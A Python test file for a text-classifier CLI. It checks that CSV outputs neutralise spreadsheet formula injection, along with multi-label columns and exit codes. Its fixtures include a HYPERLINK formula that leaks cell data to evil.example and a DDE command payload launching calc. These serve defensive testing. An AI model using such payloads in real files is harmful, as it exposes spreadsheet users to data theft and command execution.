"""``python -m longbert.predict``'s output files as people open them: CSV cells no spreadsheet
runs as formulas (and a BOM for Excel), a multi-label model's chosen labels, and the exit status
when nothing was labelled."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from helpers.classifier_factories import save_tiny_encoder
from helpers.predict_fixtures import read_jsonl
from helpers.train_fixtures import TRAIN_ENCODER
from test_predict_cli import checkpoint, env  # noqa: F401  (fixtures: a tiny checkpoint, a sandbox)

from longbert.bulk.outputs import ledger_path
from longbert.predict import main

EVIL_TITLE = '=HYPERLINK("http://evil.example/"&A1,"click")'


def _csv_cells(path: Path) -> list[list[str]]:
    """The CSV's cells exactly as a spreadsheet gets them (the BOM removed, nothing else)."""
    return list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")))


def _formula_corpus(root: Path) -> Path:
    corpus = root / "corpus"
    corpus.mkdir()
    rows = [
        {"id": "=1+2", "text": "Markets fell as rates rose.", "title": EVIL_TITLE, "=cmd": "@SUM(1)"},
        {"id": "-5", "text": "The club won the final.", "title": "+plain", "=cmd": "ok"},
        {"id": "-cmd|' /C calc'!A0", "text": "Bond yields climbed.", "title": "Résumé café", "=cmd": 3},
    ]
    (corpus / "table.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows))
    (corpus / "=evil.txt").write_text("Fans celebrated the match in the streets.")
    return corpus


def test_the_csv_output_defuses_formulas_and_stays_raw_in_the_ledger_and_parquet(
    env: Path,  # noqa: F811
    checkpoint: Path,  # noqa: F811
) -> None:
    corpus = _formula_corpus(env)
    out = env / "out.csv"
    args = ["--model", str(checkpoint), "--input", str(corpus), "--output", str(out), "--no-store", "--quiet"]
    assert main(args) == 0
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 with a BOM: Excel reads the accents right
    header, *rows = _csv_cells(out)
    assert "'=cmd" in header and "=cmd" not in header  # a source column's name is a cell too
    by_name = {row[header.index("name")].lstrip("'"): dict(zip(header, row, strict=True)) for row in rows}
    table = f"{corpus}/table.jsonl"
    first, second, third = (by_name[f"{table}#row={n}"] for n in (1, 2, 3))
    assert first["id"] == "'=1+2" and first["title"] == "'" + EVIL_TITLE and first["'=cmd"] == "'@SUM(1)"
    assert second["id"] == "-5"  # a plain number stays a number (a spreadsheet cannot run it)
    assert second["title"] == "'+plain"
    assert third["id"] == "'-cmd|' /C calc'!A0" and third["title"] == "Résumé café"
    evil_file = by_name[f"{corpus}/=evil.txt"]
    assert evil_file["label"] in ("econ", "sport")
    # Every cell of the file: nothing a spreadsheet would evaluate.
    for row in [header, *rows]:
        for cell in row:
            assert cell[:1] not in ("=", "+", "@", "\t", "\r") or cell == "", cell
            assert not cell.startswith("-") or cell.lstrip("-").replace(".", "").isdigit(), cell
    # The ledger (what a resume reads) keeps every value exactly.
    ledger = {r["name"]: r for r in read_jsonl(ledger_path(out))}
    assert ledger[f"{table}#row=1"]["id"] == "=1+2" and ledger[f"{table}#row=2"]["id"] == "-5"
    assert ledger[f"{table}#row=1"]["title"] == EVIL_TITLE
    # A resume finds every row done (the defused cells are never read back), the file unchanged.
    assert main(args) == 0
    assert out.read_bytes() == raw
    # Parquet is not opened by spreadsheets: its cells stay as they were.
    import pandas as pd

    parquet = env / "out.parquet"
    assert main([*args[:-4], "--output", str(parquet), "--no-store", "--quiet"]) == 0
    frame = pd.read_parquet(parquet).set_index("name")
    assert frame.loc[f"{table}#row=1", "id"] == "=1+2"
    assert frame.loc[f"{table}#row=1", "title"] == EVIL_TITLE
    assert frame.loc[f"{table}#row=2", "id"] == "-5"


def test_a_file_name_typed_with_a_formula_character_is_defused(
    env: Path,  # noqa: F811
    checkpoint: Path,  # noqa: F811
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    corpus = _formula_corpus(env)
    monkeypatch.chdir(corpus)  # the input as the user typed it: its name is the row's id
    out = env / "named.csv"
    args = ["--model", str(checkpoint), "--input", "=evil.txt", "--output", str(out), "--no-store", "--quiet"]
    assert main(args) == 0
    header, row = _csv_cells(out)
    cells = dict(zip(header, row, strict=True))
    assert cells["id"] == cells["name"] == "'=evil.txt"
    assert read_jsonl(ledger_path(out))[0]["name"] == "=evil.txt"


def test_the_csv_output_reads_back_as_an_input_table_and_in_pandas(
    env: Path,  # noqa: F811
    checkpoint: Path,  # noqa: F811
) -> None:
    import pandas as pd

    from longbert.bulk.tables import read_table_rows
    from longbert.readers import ReadLimits

    corpus = _formula_corpus(env)
    out = env / "labels.csv"
    args = ["--model", str(checkpoint), "--input", str(corpus), "--output", str(out), "--no-store", "--quiet"]
    assert main(args) == 0
    frame = pd.read_csv(out)
    assert list(frame.columns[:3]) == ["id", "name", "sha256"]  # no BOM glued to "id"
    assert "Résumé café" in set(frame["title"])
    # This tool's readers skip the BOM: the output is a valid input table (its title as text).
    items = list(read_table_rows("labels.csv", out, "title", "id", ReadLimits()))
    assert len(items) == 4 and "Résumé café" in {i.document.text for i in items if i.document}
    assert {i.id for i in items} >= {"'=1+2", "-5"}


def _multi_label_checkpoint(folder: Path) -> Path:
    from longbert import LongBertClassifier

    encoder = save_tiny_encoder(folder / "encoder-src", **TRAIN_ENCODER)
    classifier = LongBertClassifier.from_encoder(
        encoder,
        labels=["econ", "sport", "tech"],
        strategy={"name": "chunk", "params": {"window": 64, "stride": 64}},
        name="tiny-multi",
        device="cpu",
        multi_label=True,
    )
    return classifier.save_pretrained(folder / "tiny-multi")


@pytest.fixture(scope="module")
def multi_checkpoint(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return _multi_label_checkpoint(tmp_path_factory.mktemp("multi"))


@pytest.mark.parametrize("suffix", ["jsonl", "csv", "parquet"])
def test_a_multi_label_models_output_has_its_chosen_labels_and_threshold(
    env: Path,  # noqa: F811
    multi_checkpoint: Path,
    suffix: str,
) -> None:
    import pandas as pd

    from longbert import load_classifier

    table = env / "docs.jsonl"
    texts = ["Markets fell as rates rose.", "The club won the final.", "Chips and servers got faster."]
    lines = [json.dumps({"id": f"m{i}", "text": t, "labels": "gold"}) for i, t in enumerate(texts)]
    table.write_text("\n".join(lines) + "\n" + json.dumps({"id": "m3", "text": ""}) + "\n")
    out = env / f"multi.{suffix}"
    argv = ["--model", str(multi_checkpoint), "--input", str(table), "--output", str(out), "--quiet"]
    assert main(argv) == 0
    classifier = load_classifier(str(multi_checkpoint), device="cpu", precision="auto")
    expected = [p.labels for p in classifier.predict(texts, attention="none")]
    if suffix == "jsonl":
        rows = read_jsonl(out)
        labels, thresholds = [r["labels"] for r in rows], [r["threshold"] for r in rows]
        sources = [r.get("source_labels") for r in rows]
    else:
        frame = pd.read_csv(out) if suffix == "csv" else pd.read_parquet(out)
        assert list(frame.columns[:6]) == ["id", "name", "sha256", "label", "labels", "threshold"]
        cells = list(frame["labels"])
        if suffix == "csv":  # JSON text, as the store's CSV exports write lists
            cells = [json.loads(cell) if isinstance(cell, str) else None for cell in cells]
        labels = [list(cell) if cell is not None else None for cell in cells]
        thresholds = [None if pd.isna(t) else t for t in frame["threshold"]]
        sources = [None if pd.isna(s) else s for s in frame["source_labels"]]
    assert labels[:3] == expected and labels[3] is None  # the error row has none
    assert thresholds == [0.5, 0.5, 0.5, None]
    assert sources == ["gold", "gold", "gold", None]  # the source's own "labels" column, kept


def test_a_single_label_output_keeps_its_columns(
    env: Path,  # noqa: F811
    checkpoint: Path,  # noqa: F811
) -> None:
    table = env / "docs.jsonl"
    table.write_text(json.dumps({"id": "a", "text": "Markets fell.", "labels": "mine"}) + "\n")
    out = env / "single.jsonl"
    argv = ["--model", str(checkpoint), "--input", str(table), "--output", str(out), "--quiet", "--no-store"]
    assert main(argv) == 0
    (row,) = read_jsonl(out)
    assert row["labels"] == "mine" and "threshold" not in row and "source_labels" not in row


def test_exit_status_is_1_when_nothing_was_labelled(
    env: Path,  # noqa: F811
    checkpoint: Path,  # noqa: F811
    capsys: pytest.CaptureFixture[str],
) -> None:
    table = env / "docs.csv"
    table.write_text('id,body\nd1,"Markets fell as rates rose."\n')
    base = ["--model", str(checkpoint), "--no-store", "--quiet"]
    wrong = [*base, "--input", str(table), str(env / "missing.txt"), "--text-column", "text"]
    assert main([*wrong, "--output", str(env / "a.jsonl")]) == 1
    err = capsys.readouterr().err
    assert "0 labelled, 2 errors" in err
    assert "error: nothing was labelled: the output holds only errors (2 rows" in err
    # A re-run with nothing new to read still says the output holds no label.
    assert main([*wrong, "--output", str(env / "a.jsonl")]) == 1
    assert "the output holds only errors" in capsys.readouterr().err
    # No input at all is nothing labelled either.
    empty = env / "empty"
    empty.mkdir()
    assert main([*base, "--input", str(empty), "--output", str(env / "e.jsonl")]) == 1
    assert "no input document was found" in capsys.readouterr().err
    # Some labelled, some failed: success, the errors counted.
    right = [*base, "--input", str(table), str(env / "missing.txt"), "--text-column", "body"]
    assert main([*right, "--output", str(env / "b.jsonl")]) == 0
    err = capsys.readouterr().err
    assert "1 labelled, 1 errors" in err and "error:" not in err
    # Resumed with one more input that fails: the output still holds a label, so the run (like
    # the same command run again) succeeds, the error counted -- the status does not flip.
    (env / "broken.txt").write_bytes(b"")
    more = [*base, "--input", str(table), str(env / "missing.txt"), str(env / "broken.txt")]
    assert main([*more, "--text-column", "body", "--output", str(env / "b.jsonl")]) == 0
    assert "error:" not in capsys.readouterr().err
